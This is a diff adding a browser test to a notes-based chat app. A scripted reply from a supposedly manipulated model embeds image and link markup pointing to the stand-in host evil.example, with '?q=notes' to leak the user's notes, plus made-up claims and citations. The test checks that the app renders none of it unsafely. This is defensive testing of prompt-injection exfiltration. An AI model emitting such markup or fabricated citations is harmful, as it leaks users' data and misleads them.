@@ -137,6 +137,32 @@ async def test_an_answer_is_copied_as_it_was_written(
         await chat.is_ready()
 
 
+async def test_a_model_that_was_talked_round_loads_nothing_from_elsewhere_and_a_doubtful_source_is_marked(
+    model_server: Studyin, provider: ScriptedProvider, chat: ChatPage, page: Page
+):
+    evil = "https://evil.example"
+    provider.script(
+        Stream(
+            "A mitochondrion makes ATP [[1]]. It freezes whole oceans at night [[1]], says nobody [[9]].\n\n",
+            f"![a picture]({evil}/?q=notes) <img src='{evil}/'> [tap here]({evil}/tap)\n\nWhat is a mitochondrion?",
+        )
+    )
+    await chat.open(model_server.url)
+    await chat.add_notes("cells.md", "# Cells\n\nA mitochondrion makes ATP.\n")
+    await chat.ask("What is a mitochondrion?")
+    await chat.ended()
+    for _ in ("as it came", "as it was stored"):
+        answer = chat.answer()
+        await expect(answer.locator("img")).to_have_count(0)
+        await expect(answer.get_by_role("link", name="a picture")).to_have_attribute("rel", re.compile("noreferrer"))
+        await expect(answer.get_by_role("link", name=re.compile("^Source 1$"))).to_have_count(1)
+        await expect(answer.get_by_role("link", name="Source 1, which does not say this")).to_have_count(1)
+        await expect(answer).not_to_contain_text("[[9]]")
+        await expect(chat.replies.locator(".notice")).to_contain_text("not in its passage")
+        await page.reload()
+        await chat.is_ready()
+
+
 # ------------------------------------------------------------------ sessions
 
 
